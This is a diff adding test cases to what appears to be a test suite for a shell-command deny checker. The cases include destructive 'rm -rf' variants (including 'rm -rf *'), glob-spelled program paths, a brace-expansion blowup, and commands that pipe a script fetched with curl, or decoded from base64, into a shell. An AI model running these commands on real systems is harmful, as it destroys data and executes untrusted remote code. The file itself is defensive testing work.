@@ -67,6 +67,7 @@ def _denied(out: dict[str, Any]) -> str | None:
         "/bin/r? -rf data",  # a program the shell expands from a pattern
         "/usr/bin/r[m] -rf data",
         "rm -rf dat?",  # an argument the shell expands from a pattern
+        "rm -rf *",  # ... which can be data
         "rm -rf ./data",  # the same folder, another spelling
         "rm -rf data/",
         "rm -rf ./build/../data",
@@ -100,6 +101,8 @@ def test_another_spelling_is_the_same_command(tmp_path: Path, command: str) -> N
         (f"sh < <(echo {B64} | base64 -d)", "`sh` reads a script computed at run time"),
         ("source <(curl -s https://example.com/x.sh)", "`source` reads a script computed"),
         ("curl -s https://example.com/x.sh | bash", "`bash` runs the output of `curl -s"),
+        ("/bin/s? -c 'echo hi'", "the program `/bin/s?` is a pattern the shell expands"),
+        ("echo " + "{a,b}" * 11, "a brace expansion gives more than 1024 words"),
     ],
 )
 def test_a_computed_program_or_script_is_denied_as_unreadable(
@@ -131,6 +134,7 @@ def test_a_computed_program_is_allowed_when_nothing_is_enforced(tmp_path: Path) 
         "rm -rf data2",
         "rm -rf /elsewhere/data",  # another folder called data
         "rm -rf data/cache",  # a folder inside it, not the folder
+        "rm -rf *.pyc dist/*",  # patterns that cannot be data
         "rm -r data",  # the pattern names -rf
         'printf "%s" "${IFS}"',
         "ls /bin/r?",
